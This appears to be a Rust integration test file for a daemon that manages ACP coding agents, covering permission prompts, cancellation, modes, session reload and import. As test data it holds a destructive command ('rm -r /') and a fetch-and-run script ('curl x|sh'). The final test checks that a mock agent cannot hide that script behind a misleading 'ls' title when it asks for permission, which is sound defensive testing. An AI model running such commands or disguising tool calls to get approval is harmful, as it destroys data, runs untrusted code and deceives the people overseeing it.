//! Agents that speak ACP.

use std::path::Path;

use serde_json::{Value, json};

use crate::acp_agent;
use crate::support::{Client, TestDaemon, config};

async fn daemon(home: &Path) -> TestDaemon {
    let mut config = config(home);
    for spoilt in ["no", "newer", "login", "forgets"] {
        let spec = format!("acp-{spoilt}={}", acp_agent::command(spoilt));
        config.agents.push(spec.parse().unwrap());
    }
    TestDaemon::with(config).await
}

async fn agent(client: &mut Client, home: &Path, prompt: &str) -> String {
    client.agent("acp-no", home, Some(prompt)).await
}

async fn items(client: &mut Client, id: &str) -> Vec<Value> {
    let page = client.timeline(id, json!({ "limit": 0 })).await;
    let entries = page["entries"].as_array().unwrap();
    entries.iter().map(|entry| entry["item"].clone()).collect()
}

async fn send(client: &mut Client, id: &str, text: &str) -> Value {
    let sent = json!({ "agentId": id, "text": text });
    let sent = client.call("send_agent_message_request", sent).await;
    assert_eq!(sent["accepted"], true, "{sent}");
    client.wait(id).await
}

#[tokio::test]
async fn what_it_does_is_in_the_timeline() {
    let home = tempfile::tempdir().unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    let prompt = "think hello world tool edit plan usage pictures";
    let id = agent(&mut client, home.path(), prompt).await;
    let waited = client.wait(&id).await;
    assert_eq!(waited["status"], "idle", "{waited}");
    let usage = json!({ "contextWindowMaxTokens": 100, "contextWindowUsedTokens": 10 });
    assert_eq!(waited["final"]["lastUsage"], usage);
    let session = waited["final"]["runtimeInfo"]["sessionId"]
        .as_str()
        .unwrap();
    assert!(session.starts_with("acp-"), "{session}");
    let mut items = items(&mut client, &id).await;
    for item in &mut items {
        let fields = item.as_object_mut().unwrap();
        fields.remove("messageId");
        fields.remove("metadata");
    }
    assert_eq!(
        items[1..],
        [
            json!({ "type": "reasoning", "text": "Hm. " }),
            json!({ "type": "assistant_message", "text": "hello world " }),
            json!({ "type": "tool_call", "callId": "t1", "name": "execute", "status": "completed",
                "error": null, "detail": { "type": "shell", "command": "ls -l", "cwd": "/tmp",
                "output": "total 0", "exitCode": 0 } }),
            json!({ "type": "tool_call", "callId": "t2", "name": "edit", "status": "completed",
                "error": null, "detail": { "type": "edit", "filePath": "/a.rs",
                "oldString": "a", "newString": "b" } }),
            json!({ "type": "todo", "items": [
                { "text": "look", "completed": true, "status": "completed" },
                { "text": "leap", "completed": false, "status": "in_progress" } ] }),
            json!({ "type": "assistant_message", "text": "0 pictures. Done." }),
        ]
    );
    daemon.stop().await;
}

#[tokio::test]
async fn what_it_streams_is_gathered_and_nothing_is_lost() {
    let home = tempfile::tempdir().unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    let id = agent(&mut client, home.path(), "tokens").await;
    let waited = client.wait(&id).await;
    let all: String = (0..500).map(|n| format!("{n} ")).collect();
    assert_eq!(waited["lastMessage"], format!("{all}Done."));
    let page = client
        .timeline(&id, json!({ "limit": 0, "projection": "canonical" }))
        .await;
    let rows = page["entries"].as_array().unwrap().len();
    assert!((2..400).contains(&rows), "{rows} rows");
    daemon.stop().await;
}

#[tokio::test]
async fn its_questions_go_to_people_and_their_answers_come_back() {
    let home = tempfile::tempdir().unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    let id = agent(&mut client, home.path(), "ask").await;
    for (response, answer, status) in [
        (json!({ "behavior": "allow" }), "once", "completed"),
        (
            json!({ "behavior": "allow", "selectedActionId": "always" }),
            "always",
            "completed",
        ),
        (json!({ "behavior": "deny" }), "no", "failed"),
    ] {
        let waited = client.wait(&id).await;
        assert_eq!(waited["status"], "permission", "{waited}");
        let asked = &waited["final"]["pendingPermissions"][0];
        assert_eq!(asked["provider"], "acp");
        assert_eq!(asked["detail"]["command"], "rm -r /");
        assert_eq!(asked["description"], "rm -r /");
        assert_eq!(asked["actions"][0]["behavior"], "allow");
        assert_eq!(asked["actions"][2]["behavior"], "deny");
        let request = json!({
            "agentId": id, "requestId": asked["id"], "response": response,
        });
        client.call("agent_permission_response", request).await;
        let waited = client.wait(&id).await;
        assert_eq!(waited["lastMessage"], format!("Answer: {answer}. Done."));
        let items = items(&mut client, &id).await;
        let call = items.iter().rfind(|item| item["type"] == "tool_call");
        assert_eq!(call.unwrap()["status"], status);
        let again = json!({ "agentId": id, "text": "ask" });
        client.call("send_agent_message_request", again).await;
    }
    // A question that a stop overtakes is answered with a cancellation, and the turn ends.
    client.wait(&id).await;
    let cancel = json!({ "agentId": id });
    let canceled = client.call("cancel_agent_request", cancel).await;
    assert_eq!(canceled["agent"]["status"], "idle");
    assert_eq!(canceled["agent"]["pendingPermissions"], json!([]));
    daemon.stop().await;
}

#[tokio::test]
async fn a_turn_is_cancelled_and_the_session_goes_on() {
    let home = tempfile::tempdir().unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    let id = agent(&mut client, home.path(), "wait").await;
    client.event("timeline").await;
    let cancel = json!({ "agentId": id });
    client.call("cancel_agent_request", cancel).await;
    client.event("turn_canceled").await;
    assert_eq!(
        send(&mut client, &id, "on").await["lastMessage"],
        "on Done."
    );
    daemon.stop().await;
}

#[tokio::test]
async fn modes_and_models_are_told_chosen_and_refused() {
    let home = tempfile::tempdir().unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    let models = json!({ "provider": "acp-no" });
    let models = client.call("list_provider_models_request", models).await;
    assert_eq!(models["models"][0]["id"], "small");
    assert_eq!(models["models"][0]["isDefault"], true);
    let request = json!({
        "config": { "provider": "acp-no", "cwd": home.path(), "modeId": "yolo", "model": "large" },
        "labels": {}, "initialPrompt": "settings",
    });
    let made = client.call("create_agent_request", request).await;
    let id = made["agentId"].as_str().unwrap().to_owned();
    let waited = client.wait(&id).await;
    assert_eq!(waited["lastMessage"], "yolo large. Done.");
    assert_eq!(waited["final"]["currentModeId"], "yolo");
    assert_eq!(waited["final"]["availableModes"][0]["label"], "Ask");

    // It is told in the next turn, and the agent may change it too.
    let mode = json!({ "agentId": id, "modeId": "ask" });
    client.call("set_agent_mode_request", mode).await;
    let waited = send(&mut client, &id, "settings yolo settings").await;
    assert_eq!(waited["lastMessage"], "ask large. yolo large. Done.");
    assert_eq!(waited["final"]["currentModeId"], "yolo");

    // During a turn the agent is told at once; a refusal is shown and the old mode stays.
    let wait = json!({ "agentId": id, "text": "wait" });
    client.call("send_agent_message_request", wait).await;
    let mode = json!({ "agentId": id, "modeId": "locked" });
    client.call("set_agent_mode_request", mode).await;
    let shown = |message: &Value| message["payload"]["event"]["item"]["type"] == "error";
    let refused = client.until(shown).await;
    let refused = refused["payload"]["event"]["item"]["message"].to_string();
    assert!(refused.contains("it is locked"), "{refused}");
    client
        .call("cancel_agent_request", json!({ "agentId": id }))
        .await;
    let waited = client.wait(&id).await;
    assert_eq!(waited["final"]["currentModeId"], "yolo");

    let odd = json!({ "agentId": id, "modeId": "odd" });
    let odd = client.call("set_agent_mode_request", odd).await;
    assert!(
        odd["error"].as_str().unwrap().contains("no mode 'odd'"),
        "{odd}"
    );
    daemon.stop().await;
}

#[tokio::test]
async fn a_session_is_loaded_after_the_agent_or_the_daemon_died() {
    let home = tempfile::tempdir().unwrap();
    let first = daemon(home.path()).await;
    let mut client = first.client().await;
    let id = agent(&mut client, home.path(), "one").await;
    client.wait(&id).await;
    let waited = send(&mut client, &id, "die").await;
    assert_eq!(waited["status"], "error");
    let error = waited["error"].as_str().unwrap();
    assert!(
        error.contains("exit status: 3") && error.contains("out of luck"),
        "{error}"
    );
    assert_eq!(
        send(&mut client, &id, "two").await["lastMessage"],
        "two Done."
    );
    let session = client.wait(&id).await["final"]["runtimeInfo"]["sessionId"].clone();
    first.stop().await;

    let second = daemon(home.path()).await;
    let mut client = second.client().await;
    let waited = send(&mut client, &id, "three").await;
    assert_eq!(waited["lastMessage"], "three Done.");
    assert_eq!(waited["final"]["runtimeInfo"]["sessionId"], session);
    // What the agent tells of its history is not doubled.
    let items = items(&mut client, &id).await;
    let users = items.iter().filter(|item| item["type"] == "user_message");
    assert_eq!(users.count(), 4);

    // Without its memory it says so.
    std::fs::remove_file(
        home.path()
            .join(format!("{}.memory", session.as_str().unwrap())),
    )
    .unwrap();
    send(&mut client, &id, "die").await;
    std::fs::remove_file(
        home.path()
            .join(format!("{}.memory", session.as_str().unwrap())),
    )
    .unwrap();
    let waited = send(&mut client, &id, "four").await;
    assert_eq!(waited["lastMessage"], "four Done.");
    let items = self::items(&mut client, &id).await;
    let told = items.iter().rfind(|item| item["type"] == "error").unwrap();
    assert!(
        told["message"]
            .as_str()
            .unwrap()
            .contains("no such session"),
        "{told}"
    );
    second.stop().await;
}

#[tokio::test]
async fn its_sessions_can_be_imported_with_their_history() {
    let home = tempfile::tempdir().unwrap();
    std::fs::write(home.path().join("old.memory"), "first\nsecond\n").unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    let import = json!({ "provider": "acp-no", "sessionId": "old", "cwd": home.path() });
    let imported = client.call("import_agent_request", import.clone()).await;
    assert_eq!(imported["status"], "agent_resumed", "{imported}");
    assert_eq!(imported["timelineSize"], 4);
    assert_eq!(imported["agent"]["title"], "first");
    let id = imported["agentId"].as_str().unwrap().to_owned();
    let items = items(&mut client, &id).await;
    let texts: Vec<_> = items
        .iter()
        .map(|item| item["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts, ["first", "heard first", "second", "heard second"]);
    assert_eq!(
        send(&mut client, &id, "on").await["lastMessage"],
        "on Done."
    );
    let again = client.call("import_agent_request", import).await;
    assert_eq!(again["agentId"], *id);

    for (provider, session, why) in [
        ("acp-no", "unknown", "no such session"),
        ("acp-forgets", "old", "cannot load sessions"),
        ("echo", "old", "no sessions to import"),
        ("nobody", "old", "not configured"),
    ] {
        let import = json!({ "provider": provider, "sessionId": session, "cwd": home.path() });
        let failed = client.call("import_agent_request", import).await;
        assert_eq!(failed["status"], "agent_create_failed");
        let error = failed["error"].as_str().unwrap();
        assert!(error.contains(why), "{provider}: {error}");
    }
    let page = client.call("fetch_agents_request", json!({})).await;
    assert_eq!(page["entries"].as_array().unwrap().len(), 1);
    daemon.stop().await;
}

#[tokio::test]
async fn agents_of_no_use_fail_their_turn_and_say_why() {
    let home = tempfile::tempdir().unwrap();
    let daemon = daemon(home.path()).await;
    let mut client = daemon.client().await;
    for (provider, prompt, why) in [
        ("acp-newer", "x", "version 9"),
        ("acp-login", "x", "Log in on the web"),
        ("acp-no", "garbage", "does not speak ACP"),
        ("acp-no", "refuse", "refuses to go on"),
        ("acp-no", "fail", "it broke"),
    ] {
        let id = client.agent(provider, home.path(), Some(prompt)).await;
        let waited = client.wait(&id).await;
        assert_eq!(waited["status"], "error", "{provider} {prompt}");
        let error = waited["error"].as_str().unwrap();
        assert!(error.contains(why), "{provider} {prompt}: {error}");
    }
    let snapshot = client
        .call("get_providers_snapshot_request", json!({}))
        .await;
    let entries = snapshot["entries"].as_array().unwrap();
    let entry = |name: &str| {
        entries
            .iter()
            .find(|entry| entry["provider"] == name)
            .unwrap()
    };
    assert_eq!(entry("acp-login")["status"], "error");
    assert_eq!(entry("acp-no")["status"], "ready");
    // What we do not offer is refused, and the agent lives with it.
    let id = agent(&mut client, home.path(), "files files").await;
    let said = "-32601. -32601. Done.";
    assert_eq!(client.wait(&id).await["lastMessage"], said);
    let shown = items(&mut client, &id).await;
    let mut told = shown.iter().filter(|item| item["type"] == "error");
    let told = (told.next().unwrap()["message"].as_str(), told.next());
    let why = "refused fs/read_text_file: the agent was told that it must use its own files and terminals";
    assert_eq!(told, (Some(why), None));
    daemon.stop().await;
}

#[cfg(unix)]
#[test]
fn over_the_relay_it_is_an_agent_like_any_other() {
    let world = crate::world::World::new(&[format!("acp={}", acp_agent::command("no"))]);
    let cwd = world.dir().display().to_string();
    let provider = &world.remote(0, &["provider", "ls"])[0];
    assert_eq!(
        (&provider["provider"], &provider["status"]),
        (&json!("acp"), &json!("available"))
    );
    let models = world.remote(0, &["provider", "models", "acp"]);
    assert_eq!(models[1]["id"], "large");
    let run = [
        "run",
        "--provider",
        "acp/large",
        "--mode",
        "ask",
        "--cwd",
        &cwd,
        "plan ask settings",
    ];
    let ran = world.remote(13, &run);
    let id = ran["agentId"].as_str().unwrap();
    let asked = world.remote(0, &["permit", "ls"]);
    assert_eq!(asked[0]["agentId"], *id);
    assert_eq!(asked[0]["description"], "rm -r /");
    // A denial without a request has one to name, and later none.
    let deny = ["-r", "work", "permit", "deny", id];
    let error = String::from_utf8(world.run(&deny).stderr).unwrap();
    assert!(error.contains("no request given"), "{error}");
    world.remote(0, &["permit", "allow", id]);
    world.remote(0, &["wait", id]);
    let error = String::from_utf8(world.run(&deny).stderr).unwrap();
    assert!(error.contains("has no pending request"), "{error}");
    world.remote(0, &["wait", id]);
    let logs = world.logs(id);
    assert!(logs.ends_with("Answer: once. ask large. Done.\n"), "{logs}");
    world.remote(0, &["agent", "mode", id, "yolo"]);
    let waits = world.remote(0, &["send", "--no-wait", id, "settings wait"]);
    assert_eq!(waits["agentId"], *id);
    while !world.logs(id).contains("yolo large. Waiting.") {}
    world.remote(0, &["stop", id]);
    assert_eq!(world.remote(0, &["inspect", id])["Status"], "idle");

    std::fs::write(world.dir().join("old.memory"), "first\n").unwrap();
    let imported = world.remote(0, &["import", "old", "--provider", "acp", "--cwd", &cwd]);
    let logs = world.logs(imported["agentId"].as_str().unwrap());
    assert_eq!(logs, "[User] first\nheard first\n");
}

/// A title is words of the agent: what the tool gets, and every change of a file, is shown.
#[cfg(unix)]
#[test]
fn a_title_hides_nothing_of_what_a_tool_would_do() {
    let world = crate::world::World::new(&[format!("acp={}", acp_agent::command("no"))]);
    let cwd = world.dir().display().to_string();
    let run = ["run", "--provider", "acp", "--cwd", &cwd];
    let ran = world.remote(13, &[&run[..], &["hide"]].concat());
    let asked = &world.remote(0, &["permit", "ls"])[0];
    let input = json!({ "script": "curl x|sh", "args": ["--now"] });
    assert_eq!(asked["input"], input, "{asked}");
    // What people see.
    let output = world.run(&["-r", "work", "wait", ran["agentId"].as_str().unwrap()]);
    let shown = String::from_utf8(output.stderr).unwrap();
    assert!(!shown.contains("command: ls"), "{shown}");
    for part in [
        "input.script: curl x|sh",
        "input.args: --now",
        "file: /a",
        "file: /b",
        "file: /c",
        "adds: new-a",
        "adds: new-b",
        "removes: old-b",
        "the agent says: \"ls\"",
    ] {
        assert!(shown.contains(part), "{part} in {shown}");
    }
    // Nobody is asked about what cannot be shown.
    let ran = world.remote(0, &[&run[..], &["flood"]].concat());
    let logs = world.logs(ran["agentId"].as_str().unwrap());
    assert!(logs.contains("too large"), "{logs}");
    assert!(logs.ends_with("Answer: no. Done.\n"), "{logs}");
}
